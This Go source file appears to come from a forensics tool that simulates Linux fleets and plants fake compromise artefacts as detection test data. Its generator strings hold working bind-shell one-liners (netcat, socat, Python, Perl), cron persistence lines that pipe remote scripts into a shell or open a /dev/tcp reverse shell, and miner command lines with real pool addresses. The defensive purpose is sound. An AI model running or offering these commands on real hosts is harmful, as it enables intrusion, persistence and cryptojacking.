package fleet

import (
	"cmp"
	"fmt"
	"math"
	"math/rand/v2"
	"slices"
	"strings"

	"github.com/diffy-dfir/diffy/payload"
)

// The attack kinds of a Sim beyond the Plant* kinds it shares with
// Generate (PlantListener: a bind shell listening with its process;
// PlantCrontab: persistence in a crontab; PlantKernelModule: a rootkit
// module; PlantUID0User: a second uid-0 user; PlantAuthorizedKey: the
// attacker's SSH key; PlantMasquerade: a process posing as a kernel
// thread, run from /tmp, /var/tmp or /dev/shm).
const (
	// AttackMiner is a cryptocurrency miner renamed to pass for a system
	// process.
	AttackMiner = "miner"
	// AttackRelocated is a system daemon running from a new path with its
	// usual name and command line (sshd from /usr/local/sbin/.sshd,
	// titled "sshd: /usr/sbin/sshd -D [listener] ..."): the genuine row
	// is gone, the planted one replaces it (Planted.Replaced).
	AttackRelocated = "relocated_binary"
	// AttackOddParent is a second instance of a system daemon, with its
	// usual name, path, command line and user, started by the role's
	// application (a web shell's doing): only its parent tells it apart.
	AttackOddParent = "odd_parent"
	// AttackCampaign marks the rows of the campaign (Attacks.Campaign): a
	// renamed miner, its crontab line and the attacker's SSH key, the same
	// on every campaign host.
	AttackCampaign = "campaign"
)

// AttackKinds lists every single-host attack kind a Sim plants.
var AttackKinds = []string{PlantListener, PlantCrontab, PlantKernelModule, PlantUID0User, PlantAuthorizedKey,
	PlantMasquerade, AttackMiner, AttackRelocated, AttackOddParent}

func isAttackKind(k string) bool { return slices.Contains(AttackKinds, k) }

// assignAttacks draws which slots are compromised and with what: the
// single-host attacks on a share of the slots, the campaign on another,
// none on an instance still booting, none in the week-earlier collection.
// ord[slot][j] numbers the slot's attack j among the plants of its kind
// (in the order drawn), so that plants that must differ can.
func (s *Sim) assignAttacks() (out map[int][]string, ord map[int][]int) {
	a := s.cfg.Attacks
	out, ord = map[int][]string{}, map[int][]int{}
	if s.cfg.WeekEarlier || (len(a.Kinds) == 0 && !a.Campaign) {
		return out, ord
	}
	r := streamRand(s.cfg.Seed, streamAttacks)
	share := a.Share
	if share == 0 {
		share = between(r, 0.005, 0.03)
	}
	cshare := a.CampaignShare
	if cshare == 0 {
		cshare = between(r, 0.05, 0.09)
	}
	var eligible []int
	for i := 0; i < s.cfg.Hosts; i++ {
		if !s.identity(i).booting {
			eligible = append(eligible, i)
		}
	}
	r.Shuffle(len(eligible), func(i, j int) { eligible[i], eligible[j] = eligible[j], eligible[i] })
	n := len(eligible)
	k1, k2 := 0, 0
	if len(a.Kinds) > 0 {
		k1 = count(share, s.cfg.Hosts)
	}
	if a.Campaign {
		k2 = count(cshare, s.cfg.Hosts)
	}
	k1, k2 = min(k1, n), min(k2, max(n-k1, 0))
	kinds := slices.Clone(a.Kinds)
	r.Shuffle(len(kinds), func(i, j int) { kinds[i], kinds[j] = kinds[j], kinds[i] })
	q := 0
	seen := map[string]int{}
	for _, slot := range eligible[:k1] {
		per := a.PerHost
		if per == 0 {
			per = 1 + r.IntN(2)
		}
		per = min(per, len(kinds))
		for range per {
			k := kinds[q%len(kinds)]
			out[slot] = append(out[slot], k)
			ord[slot] = append(ord[slot], seen[k])
			seen[k]++
			q++
		}
	}
	for _, slot := range eligible[k1 : k1+k2] {
		out[slot] = []string{AttackCampaign}
		ord[slot] = []int{0}
	}
	return out, ord
}

// plantAttacks plants the host's attacks, each from its own stream.
func (g *hostGen) plantAttacks() {
	for j, kind := range g.s.attacks[g.id.slot] {
		r := streamRand(g.s.cfg.Seed, streamAttackRows, uint64(g.id.slot), uint64(j))
		switch kind {
		case PlantListener:
			g.plantListener(r)
		case PlantCrontab:
			g.plantCron(r, kind, cronImplant(r, g.s.cfg.GroupName))
		case PlantKernelModule:
			g.plantModule(r)
		case PlantUID0User:
			g.plantUID0(r)
		case PlantAuthorizedKey:
			g.plantKey(r)
		case PlantMasquerade:
			g.plantMasquerade(r)
		case AttackMiner:
			g.plantProc(r, kind, minerImplant(r), g.attackerUID(r), 1)
		case AttackRelocated:
			g.plantRelocated(r, g.s.ordinals[g.id.slot][j])
		case AttackOddParent:
			g.plantOddParent(r)
		case AttackCampaign:
			g.plantCampaign(r)
		}
	}
}

// record notes a planted row.
func (g *hostGen) record(kind string, v vrow, replaced *vrow, detail string) {
	p := Planted{Kind: kind, CommandID: commandIDs[v.cmd], Row: v.row(), Detail: detail}
	if replaced != nil {
		p.Replaced = replaced.row()
	}
	g.planted = append(g.planted, p)
}

// compromisedAt returns when the attacker started something: minutes to
// days before the collection, after the host booted; on a host whose
// attacker is at work during the collection (Attacks.Young), 30 seconds
// to 10 minutes before it, drawn apart from r so that the host's other
// draws stay as they are.
func (g *hostGen) compromisedAt(r *rand.Rand) int64 {
	t := g.at - int64(600+r.IntN(5*86400))
	t = max(t, g.boot+int64(60+r.IntN(600)))
	if y := g.s.cfg.Attacks.Young; y > 0 && unit(g.s.cfg.Seed, streamYoungAttacks, uint64(g.id.slot)) < y {
		// Keyed by t too: each attack of the host its own age.
		age := 30 + int64(570*unit(g.s.cfg.Seed, streamYoungAttacks, uint64(g.id.slot), uint64(t)))
		t = max(g.at-age, g.boot)
	}
	return t
}

// attackerUID is the user an attacker's process runs as: root, or the
// user of the service they came in through.
func (g *hostGen) attackerUID(r *rand.Rand) int {
	switch r.IntN(4) {
	case 0:
		return 33
	case 1:
		if g.app.pid != 0 {
			return g.app.uid
		}
	}
	return 0
}

// usedPort reports whether the host listens on port already.
func (g *hostGen) usedPort(port int) bool {
	s := itoa(port)
	return slices.ContainsFunc(g.lps, func(v vrow) bool { return v.v[5] == s })
}

// freePort draws a port in [lo, hi] the host does not listen on.
func (g *hostGen) freePort(r *rand.Rand, lo, hi int) int {
	for {
		if p := intBetween(r, lo, hi); !g.usedPort(p) {
			return p
		}
	}
}

// implant is an attacker's process before it lands on a host.
type implant struct{ name, path, cmdline string }

func (g *hostGen) plantProc(r *rand.Rand, kind string, im implant, uid, parent int) running {
	t := g.compromisedAt(r)
	g.spawn(g.pidAt(r, t), comm(im.name), im.path, im.cmdline, uid, parent, t)
	pr := g.procs[len(g.procs)-1]
	g.record(kind, vProc(pr), nil, "")
	return pr
}

func (g *hostGen) plantListener(r *rand.Rand) {
	port := g.freePort(r, 1025, 65535)
	if chance(r, 0.3) {
		port = pickOne(r, 4444, 1337, 31337, 8888, 9001, 4443, 2222, 6666, 5555)
		if g.usedPort(port) {
			port = g.freePort(r, 1025, 65535)
		}
	}
	var im implant
	switch r.IntN(6) {
	case 0:
		im = implant{"nc", "/usr/bin/nc.openbsd", fmt.Sprintf("nc -lvnp %d", port)}
	case 1:
		im = implant{"nc.traditional", "/usr/bin/nc.traditional", fmt.Sprintf("nc -l -p %d -e /bin/sh", port)}
	case 2:
		p := pickOne(r, "/dev/shm/socat", "/tmp/socat", "/usr/bin/socat")
		im = implant{"socat", p, fmt.Sprintf("%s TCP-LISTEN:%d,reuseaddr,fork EXEC:/bin/bash,pty,stderr,setsid,sigint,sane", strings.TrimPrefix(p, "/usr/bin/"), port)}
	case 3:
		im = implant{"python3", g.python(), fmt.Sprintf("python3 -c import socket,os,pty;s=socket.socket();s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1);s.bind(('0.0.0.0',%d));s.listen(1);c,a=s.accept();[os.dup2(c.fileno(),f) for f in(0,1,2)];pty.spawn('/bin/bash')", port)}
	case 4:
		im = implant{"perl", "/usr/bin/perl", fmt.Sprintf("perl -e use Socket;$p=%d;socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));setsockopt(S,SOL_SOCKET,SO_REUSEADDR,1);bind(S,sockaddr_in($p,INADDR_ANY));listen(S,5);while(accept(C,S)){if(!fork()){open(STDIN,'>&C');open(STDOUT,'>&C');open(STDERR,'>&C');exec('/bin/sh -i')}}", port)}
	default:
		name := randLetters(r, 4+r.IntN(4))
		path := pickOne(r, "/tmp/.X11-unix/.", "/dev/shm/.", "/var/tmp/.") + randLetters(r, 3) + "/" + name
		im = implant{name, path, fmt.Sprintf("%s -l %d -k %s", path, port, randLetters(r, 10))}
	}
	parent := 1
	uid := g.attackerUID(r)
	if uid != 0 && g.app.pid != 0 && chance(r, 0.5) {
		parent = g.app.pid // spawned by the exploited service
	}
	p := g.plantProc(r, PlantListener, im, uid, parent)
	if parent != 1 {
		g.procs[len(g.procs)-1].start = max(p.start, g.startOf(parent)+1)
		v := vProc(g.procs[len(g.procs)-1])
		g.planted[len(g.planted)-1].Row = v.row()
		p = g.procs[len(g.procs)-1]
	}
	addr := pickOne(r, "0.0.0.0", "::", "0.0.0.0")
	lp := vLP(addr, port, tcp, p.name, p.path, p.cmdline, p.pid)
	g.lps = append(g.lps, lp)
	g.record(PlantListener, lp, nil, "")
}

// cronImplant draws an attacker's crontab line.
func cronImplant(r *rand.Rand, group string) cronLine {
	host := pickOne(r, publicIP(r), publicIP(r)+":"+itoa(intBetween(r, 1024, 65000)),
		randLetters(r, 6)+".duckdns.org", "pastebin.com/raw/"+randB64(r, 8)[:8], randLetters(r, 5)+"-cdn.top")
	url := pickOne(r, "http://", "https://", "http://") + host + "/" + pickOne(r, randLetters(r, 5)+".sh", "i.sh", "x", ".update", group+".sh")
	var cmd string
	switch r.IntN(6) {
	case 0:
		cmd = "curl -fsSL " + url + " | sh"
	case 1:
		cmd = "wget -q -O - " + url + " | bash"
	case 2:
		cmd = "(curl -fsSL " + url + " || wget -q -O- " + url + ") | bash > /dev/null 2>&1"
	case 3:
		cmd = "echo " + randB64(r, 40+r.IntN(60)) + " | base64 -d | bash"
	case 4:
		cmd = fmt.Sprintf("/bin/bash -c 'bash -i >& /dev/tcp/%s/%d 0>&1'", publicIP(r), pickOne(r, 443, 4444, 8080, 53, intBetween(r, 1024, 65000)))
	default:
		cmd = pickOne(r, "/dev/shm/.", "/var/tmp/.", "/tmp/.") + randLetters(r, 5) + "/" + pickOne(r, "upd", "sshd", randLetters(r, 6)) + " > /dev/null 2>&1"
	}
	c := cronLine{minute: pickOne(r, "*/5", "*/10", "*/3", "*/15", "*", itoa(r.IntN(60))), hour: "*", dom: "*", month: "*", dow: "*"}
	if chance(r, 0.2) {
		c = cronLine{event: "@reboot"}
	}
	switch r.IntN(4) {
	case 0, 1:
		c.path = "/var/spool/cron/crontabs/root"
	case 2:
		c.path = "/var/spool/cron/crontabs/" + pickOne(r, "www-data", "ubuntu")
	default:
		c.path = "/etc/cron.d/" + pickOne(r, "sysstat-", "apt-compat-", "php", "certbot-", "0") + randLetters(r, 3)
		cmd = "root " + cmd
	}
	c.command = cmd
	return c
}

func publicIP(r *rand.Rand) string {
	return fmt.Sprintf("%d.%d.%d.%d", pickOne(r, 45, 91, 103, 138, 185, 193, 194, 2+r.IntN(220)), r.IntN(256), r.IntN(256), 1+r.IntN(254))
}

func (g *hostGen) plantCron(_ *rand.Rand, kind string, c cronLine) {
	g.crons = append(g.crons, c)
	g.record(kind, vCron(c), nil, "")
}

// rootkitNames are the names rootkit modules load under: known ones, and
// names made to look like a driver's.
var rootkitNames = []string{"diamorphine", "reptile", "reptile_module", "suterusu", "kovid", "nuk3gh0st", "brokepkg", "rkduck"}

func (g *hostGen) plantModule(r *rand.Rand) {
	name := pickOne(r, rootkitNames...)
	if chance(r, 0.6) {
		name = pickOne(r, "nf_", "ipt_", "hid_", "snd_", "ip6_", "usb_", "vmw_", "xt_", "crc_") + randLetters(r, 3+r.IntN(5))
	}
	m := modLine{name, 16384 + 4096*r.IntN(24), "-"}
	// Loaded some time after boot: modules loaded on demand since (by
	// the families' software) may come after it in the load order.
	at := len(g.mods) - r.IntN(min(len(g.pkgModules), 6)+1)
	g.mods = slices.Insert(g.mods, at, m)
	for i := range g.plantedMod {
		if g.plantedMod[i] >= at {
			g.plantedMod[i]++
		}
	}
	g.plantedMod = append(g.plantedMod, at)
}

// rootKeyAgain is the Detail of a uid0_user plant's second copy of one
// of root's key rows: a copy of a genuine row, which clean hosts have too.
const rootKeyAgain = "root's key again: the uid-0 user shares root's home"

func (g *hostGen) plantUID0(r *rand.Rand) {
	name := pickOne(r, "sysadm", "support", "backup", "svc", "toor", "admin", "mysql", "operator", "ftpuser", "systemd-sync") +
		pickOne(r, "", "", randLetters(r, 1), itoa(r.IntN(10)))
	dir := pickOne(r, "/root", "/home/"+name, "/var/tmp/."+randLetters(r, 3), "/usr/games")
	u := simUser{0, 0, name, pickOne(r, "", "", name, "system"), dir, pickOne(r, "/bin/bash", "/bin/sh", "/bin/bash")}
	before := g.keyRows()
	if chance(r, 0.5) {
		g.users = append(g.users, u)
	} else {
		g.users = slices.Insert(g.users, 1, u) // right after root, as an edit of /etc/passwd puts it
	}
	g.record(PlantUID0User, vUser(u), nil, "")
	// The standard pack joins users and keys on the uid: root's keys now
	// show for the new user too, and, when it shares root's home, twice
	// for each (once per user of uid 0 with that home, as osquery's
	// authorized_keys lists a home's keys for each of its users). Every
	// row the join gains is planted, root's second copies included.
	for _, v := range g.keyRows() {
		if i := slices.IndexFunc(before, func(b vrow) bool { return b == v }); i >= 0 {
			before = slices.Delete(before, i, i+1)
			continue
		}
		detail := "root's key, joined on uid 0"
		if v.v[3] == "root" {
			detail = rootKeyAgain
		}
		g.record(PlantUID0User, v, nil, detail)
	}
}

// attackerKey draws an attacker's SSH key.
func attackerKey(r *rand.Rand) (alg, key string) {
	switch r.IntN(3) {
	case 0:
		return "ssh-rsa", randRSA(r)
	case 1:
		return "ecdsa-sha2-nistp256", randECDSA(r)
	}
	return "ssh-ed25519", randEd25519(r)
}

func (g *hostGen) plantKey(r *rand.Rand) {
	alg, key := attackerKey(r)
	dir := pickOne(r, "/root", "/root", "/home/ubuntu", "/home/deploy")
	file := pickOne(r, "authorized_keys", "authorized_keys", "authorized_keys2")
	g.addKey(PlantAuthorizedKey, simKey{dir, alg, key, file})
}

// addKey adds an authorized key and records the rows it makes: one per
// user of the home's owner's uid.
func (g *hostGen) addKey(kind string, k simKey) {
	g.keys = append(g.keys, k)
	uid := -1
	for _, u := range g.users {
		if u.dir == k.dir {
			uid = u.uid
			break
		}
	}
	for _, u := range g.users {
		if u.uid == uid {
			g.record(kind, vrow{cmd: cKey, v: [8]string{k.alg, k.key, k.dir + "/.ssh/" + k.file, u.name}}, nil, "")
		}
	}
}

func (g *hostGen) plantMasquerade(r *rand.Rand) {
	thread := pickOne(r, fmt.Sprintf("kworker/%d:%d", r.IntN(g.ncpu), r.IntN(4)), fmt.Sprintf("kworker/u%d:%d", 2*g.ncpu, r.IntN(8)),
		"kthreadd", "ksoftirqd/0", "kswapd0", fmt.Sprintf("kworker/%d:0H", r.IntN(g.ncpu)), "migration/0")
	dir := pickOne(r, "/tmp/.", "/dev/shm/.", "/var/tmp/.", "/tmp/.ICE-unix/.")
	path := dir + randLetters(r, 2+r.IntN(4)) + "/" + pickOne(r, "kworker", "kthreadd", "ksoftirqd", randLetters(r, 6))
	p := g.plantProc(r, PlantMasquerade, implant{thread, path, "[" + thread + "]"}, pickOne(r, 0, 0, 33), 1)
	if chance(r, 0.3) { // a masquerade that is also a backdoor
		lp := vLP("0.0.0.0", g.freePort(r, 1025, 65535), tcp, p.name, p.path, p.cmdline, p.pid)
		g.lps = append(g.lps, lp)
		g.record(PlantMasquerade, lp, nil, "")
	}
}

// minerImplant draws a miner renamed to pass for something else.
func minerImplant(r *rand.Rand) implant {
	name := pickOne(r, "kswapd0", "kdevtmpfsi", "dbused", "sysupdate", "networkservice", "systemd-helper", "xmrig", ".sshd", "cronds", "kthreaddi", "php-fpm")
	path := pickOne(r, "/tmp/", "/var/tmp/.", "/dev/shm/.", "/usr/lib/.", "/etc/.", "/var/lib/.") + pickOne(r, name, randLetters(r, 5)) + "/" + name
	if chance(r, 0.3) {
		path = pickOne(r, "/tmp/", "/usr/bin/.", "/var/tmp/") + name
	}
	var cmd string
	switch r.IntN(3) {
	case 0:
		cmd = path
	case 1:
		dir := path[:strings.LastIndexByte(path, '/')]
		cmd = path + " -c " + dir + "/" + pickOne(r, "config.json", ".cfg", "c.json")
	default:
		pool := pickOne(r, "pool.supportxmr.com:443", "xmr.2miners.com:2222", "gulf.moneroocean.stream:10128", "pool.hashvault.pro:443",
			publicIP(r)+":"+itoa(pickOne(r, 3333, 5555, 7777, 14444)))
		wallet := "4" + randBase58(r, 94)
		cmd = fmt.Sprintf("%s -o %s -u %s -p %s -k --donate-level 1 --cpu-max-threads-hint %d -B", pickOne(r, path, "./"+name), pool, wallet,
			pickOne(r, "x", randLetters(r, 6)), pickOne(r, 50, 75, 90, 100))
		if chance(r, 0.4) {
			cmd += " --tls"
		}
	}
	return implant{name, path, cmd}
}

const base58 = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"

func randBase58(r *rand.Rand, n int) string {
	b := make([]byte, n)
	for i := range b {
		b[i] = base58[r.IntN(len(base58))]
	}
	return string(b)
}

// relocatable are the daemons an attacker replaces, and where the
// replacement runs from.
var relocatable = []struct {
	name  string
	paths []string
}{
	{"sshd", []string{"/usr/local/sbin/.sshd", "/usr/sbin/.sshd", "/dev/shm/sshd", "/usr/lib/x86_64-linux-gnu/sshd", "/usr/local/bin/sshd"}},
	{"cron", []string{"/usr/local/bin/cron", "/var/tmp/.cron", "/usr/sbin/.cron", "/usr/lib/cron/cron"}},
	{"rsyslogd", []string{"/usr/lib/rsyslog/.rsyslogd", "/usr/local/sbin/rsyslogd", "/tmp/rsyslogd"}},
	{"systemd-logind", []string{"/usr/lib/systemd/.systemd-logind", "/lib/systemd/systemd-logind", "/usr/local/lib/systemd-logind"}},
	{"dbus-daemon", []string{"/usr/local/bin/dbus-daemon", "/usr/lib/dbus-1.0/.dbus-daemon"}},
}

// relocation is one daemon and the path a replacement of it runs from.
type relocation struct {
	target int // index in relocatable
	path   string
}

// relocationOrder draws the order in which a Sim's relocated_binary
// plants take the (daemon, path) pairs of relocatable, each once: a
// weighted draw without replacement (Efraimidis and Spirakis: keys
// u^(1/w)), a daemon's weight (sshd 5, cron 2, the others 1) shared by
// its paths. So each plant has its own path, as every single-host attack
// has its own values; past the pairs' number, paths get a hidden
// directory of their own (see plantRelocated).
func relocationOrder(seed int64) []relocation {
	r := streamRand(seed, streamAttackRows, 1<<61)
	w := []float64{5, 2, 1, 1, 1}
	var out []relocation
	var keys []float64
	for t, d := range relocatable {
		for _, p := range d.paths {
			out = append(out, relocation{t, p})
			keys = append(keys, math.Pow(r.Float64(), float64(len(d.paths))/w[t]))
		}
	}
	idx := make([]int, len(out))
	for i := range idx {
		idx[i] = i
	}
	slices.SortStableFunc(idx, func(a, b int) int { return cmp.Compare(keys[b], keys[a]) })
	sorted := make([]relocation, len(out))
	for i, j := range idx {
		sorted[i] = out[j]
	}
	return sorted
}

// hiddenDir puts path's file in a hidden directory of three random
// letters beside it: /usr/local/bin/.qzx/sshd.
func hiddenDir(r *rand.Rand, path string) string {
	i := strings.LastIndexByte(path, '/')
	return path[:i] + "/." + randLetters(r, 3) + "/" + strings.TrimPrefix(path[i+1:], ".")
}

// plantRelocated replaces a system daemon with one running from another
// path; ord is the plant's number among the Sim's relocated_binary
// plants (assignAttacks), which picks its (daemon, path) pair.
func (g *hostGen) plantRelocated(r *rand.Rand, ord int) {
	order := g.s.relocations
	pick := order[ord%len(order)]
	target := relocatable[pick.target]
	path := pick.path
	if ord >= len(order) {
		path = hiddenDir(r, path)
	}
	i := slices.IndexFunc(g.procs, func(p running) bool { return p.name == target.name && p.parent == 1 })
	if i < 0 {
		i = slices.IndexFunc(g.procs, func(p running) bool { return p.name == "sshd" })
		target = relocatable[0]
		path = hiddenDir(r, pickOne(r, target.paths...))
	}
	old := g.procs[i]
	nu := old
	nu.path = path
	nu.start = g.compromisedAt(r)
	nu.pid = g.pidAt(r, nu.start)
	g.procs[i] = nu
	for j := range g.procs {
		if g.procs[j].parent == old.pid {
			g.procs[j].parent = 1 // orphans of the genuine daemon, adopted by init
		}
	}
	ov, nv := vProc(old), vProc(nu)
	g.record(AttackRelocated, nv, &ov, "")
	for j, l := range g.lps {
		if l.v[4] == itoa(old.pid) {
			nl := vLP(l.v[0], atoiOr(l.v[5]), l.v[6], nu.name, nu.path, nu.cmdline, nu.pid)
			g.lps[j] = nl
			g.record(AttackRelocated, nl, &l, "")
		}
	}
	if target.name == "sshd" {
		g.sshd = nu.proc
	}
}

// oddParentDaemons are the daemons a second, planted instance copies.
var oddParentDaemons = []string{"cron", "atd", "rsyslogd", "irqbalance", "systemd-logind", "dbus-daemon", "sshd"}

func (g *hostGen) plantOddParent(r *rand.Rand) {
	order := r.Perm(len(oddParentDaemons))
	for _, k := range order {
		i := slices.IndexFunc(g.procs, func(p running) bool { return p.name == oddParentDaemons[k] && p.parent == 1 })
		if i < 0 {
			continue
		}
		d := g.procs[i]
		parent := g.app
		if len(g.appWorkers) > 0 && chance(r, 0.5) {
			parent = g.appWorkers[r.IntN(len(g.appWorkers))]
		}
		if parent.pid == 0 {
			parent = g.cron
		}
		t := max(g.compromisedAt(r), g.startOf(parent.pid)+1)
		p := running{proc: proc{pid: g.childPid(r, parent, t), name: d.name, path: undeleted(d.path), cmdline: d.cmdline, uid: d.uid}, parent: parent.pid, start: t}
		g.procs = append(g.procs, p)
		g.record(AttackOddParent, vProc(p), nil, fmt.Sprintf("parent is %s (pid %d, %s), not systemd", parent.name, parent.pid, parent.path))
		return
	}
}

// campaignRows is the campaign's implant, the same on every host.
type campaignRows struct {
	miner       implant
	uid         int
	cron        cronLine
	keyAlg, key string
}

func newCampaign(s *Sim) campaignRows {
	r := streamRand(s.cfg.Seed, streamAttackRows, 1<<62)
	// The implant writes root's crontab and keys: it runs as root.
	c := campaignRows{miner: minerImplant(r), uid: 0}
	c.cron = cronImplant(r, s.cfg.GroupName)
	c.keyAlg, c.key = attackerKey(r)
	return c
}

func (g *hostGen) plantCampaign(r *rand.Rand) {
	c := &g.s.camp
	g.plantProc(r, AttackCampaign, c.miner, c.uid, 1)
	g.plantCron(r, AttackCampaign, c.cron)
	g.addKey(AttackCampaign, simKey{"/root", c.keyAlg, c.key, "authorized_keys"})
}

// recordModules records the planted modules once their addresses are
// known: rows are the host's kernel_modules rows, newest first.
func (g *hostGen) recordModules(rows []vrow) {
	for _, i := range g.plantedMod {
		v := rows[len(g.mods)-1-i]
		g.planted = append(g.planted, Planted{Kind: PlantKernelModule, CommandID: payload.KernelModules, Row: v.row()})
	}
	g.plantedMod = nil
}
